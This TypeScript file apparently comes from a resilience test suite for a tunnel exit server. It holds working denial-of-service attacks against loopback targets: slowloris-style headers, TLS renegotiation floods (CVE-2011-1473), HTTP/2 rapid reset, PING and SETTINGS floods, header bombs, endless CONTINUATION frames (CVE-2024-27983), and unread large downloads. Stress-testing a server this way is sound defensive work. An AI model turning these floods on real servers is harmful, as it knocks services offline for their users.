// Attacks on an exit's TLS and HTTP: what a client may do in a tunnel of its own. Frames by hand (RFC 9113 §4.1), for what Node's own client would not send.

import { setImmediate as turn, setTimeout as delay } from 'node:timers/promises';
import type { TLSSocket } from 'node:tls';
import { frame, headerBomb, openAndReset, PREFACE } from '../support/exit-frames.ts';
import { dialExit, hold } from './open.ts';
import type { Attack, Target } from './target.ts';

const HEADERS = 1;
const SETTINGS = 4;
const PING = 6;
const CONTINUATION = 9;
const END_STREAM = 1;

/** Headers that never end, a byte in a second. */
const slowHeaders: Attack = (target, signal) =>
  hold(
    200,
    async (index) => {
      const tls = await dialExit(target, 'http/1.1', index);
      tls?.write('GET http://127.0.2.44/ HTTP/1.1\r\nx: ');
      const drip = setInterval(() => tls?.write('x'), 1_000);
      tls?.once('close', () => clearInterval(drip));
      if (tls === undefined) clearInterval(drip);
      return tls;
    },
    signal,
    2,
  );

/** TLS 1.2 handshakes again and again in one connection (CVE-2011-1473). */
const renegotiation: Attack = (target, signal) =>
  hold(
    8,
    async (index) => {
      const tls = await dialExit(target, 'http/1.1', index, { maxVersion: 'TLSv1.2' });
      const again = (): void => {
        if (tls !== undefined && !tls.destroyed && !signal.aborted)
          tls.renegotiate({}, (error) => {
            if (error === null) again();
            else tls.destroy();
          });
      };
      again();
      return tls;
    },
    signal,
  );

/** Writes what `next` gives until the exit ends the connection, then on another one. @param read false: it never reads either */
function frames(next: (round: number) => Buffer, read = true): Attack {
  return (target, signal) =>
    hold(
      4,
      async (index) => {
        const tls = await dialExit(target, 'h2', index);
        if (tls === undefined) return undefined;
        if (read) tls.resume();
        tls.write(PREFACE);
        void pump(tls, next, signal);
        return tls;
      },
      signal,
      2,
    );
}

async function pump(tls: TLSSocket, next: (round: number) => Buffer, signal: AbortSignal): Promise<void> {
  for (let round = 0; !tls.destroyed && !signal.aborted; round += 1) {
    if (tls.write(next(round))) await turn();
    // Not once(): a connection that ends drains no more.
    else
      await Promise.race([
        new Promise<void>((resolve) => tls.once('drain', resolve)),
        new Promise<void>((resolve) => tls.once('close', resolve)),
        delay(50, undefined, { ref: false }),
      ]);
  }
}

function many(count: number, make: (index: number) => Buffer): Buffer {
  return Buffer.concat(Array.from({ length: count }, (_, index) => make(index)));
}

const FRAMES_A_WRITE = 100;

const rapidReset = frames((round) =>
  many(FRAMES_A_WRITE, (index) => openAndReset(2 * (round * FRAMES_A_WRITE + index) + 1, '127.0.2.200:1')),
);
const pings = frames(() => many(FRAMES_A_WRITE, () => frame(PING, 0, 0, Buffer.alloc(8))));
const pingsUnread = frames(() => many(FRAMES_A_WRITE, () => frame(PING, 0, 0, Buffer.alloc(8))), false);
/** INITIAL_WINDOW_SIZE, which the exit has to put into force for all streams. */
const setting = frame(SETTINGS, 0, 0, Buffer.from([0, 4, 0, 1, 0, 0]));
const settings = frames(() => many(FRAMES_A_WRITE, () => setting));

const headerBombs = frames((round) => headerBomb(2 * round + 1));

/** A header section that never ends (CVE-2024-27983 and its kin). */
const continuations = frames((round) => {
  const field = Buffer.concat([Buffer.from([0x00, 1, 0x61, 0x64]), Buffer.alloc(100, 0x62)]);
  const block = many(100, () => field);
  return round === 0 ? frame(HEADERS, END_STREAM, 1, block) : frame(CONTINUATION, 0, 1, block);
});

/** Downloads of a gigabyte that nobody reads. */
const unread: Attack = (target: Target, signal) =>
  hold(
    60,
    async (index) => {
      const tls = await dialExit(target, 'http/1.1', index);
      tls?.pause();
      tls?.write(`CONNECT ${target.authority} HTTP/1.1\r\nhost: x\r\n\r\nsend 1000000000\n`);
      return tls;
    },
    signal,
    2,
  );

export const HTTP_ATTACKS: Record<string, Attack> = {
  'slow headers': slowHeaders,
  renegotiation,
  'rapid reset': rapidReset,
  pings,
  'pings, answers unread': pingsUnread,
  settings,
  'header bombs': headerBombs,
  'headers without an end': continuations,
  'downloads that nobody reads': unread,
};
